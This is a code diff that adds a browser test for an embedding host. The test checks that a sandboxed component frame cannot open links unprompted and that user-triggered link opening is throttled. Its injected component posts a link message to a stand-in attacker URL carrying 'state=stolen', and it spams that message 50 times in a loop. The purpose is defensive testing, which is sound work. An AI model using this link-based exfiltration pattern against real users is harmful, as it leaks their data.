@@ -86,6 +86,23 @@ test("what a frame says in another's name is dropped", async () => {
   expect(await view.page.evaluate(() => "polluted" in {})).toBe(false);
 });
 
+test("a frame opens no address by itself, and one at a time when the person does something in it", async () => {
+  const view = await open();
+  // What a test does to a page counts as done by a person: here the test says when one is there.
+  const personIs = (isActive: boolean): Promise<unknown> => view.page.evaluate((is) => Object.defineProperty(navigator, "userActivation", { value: { isActive: is }, configurable: true }), isActive);
+  await personIs(false);
+  const link = `parent.postMessage({ type: "link", url: "https://evil.example/?state=stolen" }, "*")`;
+  await view.show([component(`export default ({ setTriggerValue, parentElement }) => { ${link}; parentElement.innerHTML = "<button>Press</button>"; parentElement.firstChild.onclick = () => { for (let i = 0; i < 50; i++) ${link}; setTriggerValue("end", 2); }; setTriggerValue("end", 1); };`)]);
+  const opened = async (): Promise<unknown[]> => (await view.said()).filter(({ type }) => type === "openLink");
+  await view.eventsAfter(1);
+  expect(await opened()).toEqual([]);
+  await personIs(true);
+  await view.page.frameLocator("iframe").getByRole("button", { name: "Press" }).click();
+  await view.eventsAfter(2);
+  expect((await opened()).length).toBeGreaterThan(0);
+  expect((await opened()).length).toBeLessThan(10);
+});
+
 test("a frame within a frame cannot pass for the host either", async () => {
   const view = await open();
   await view.show([component("export default () => {};")]);
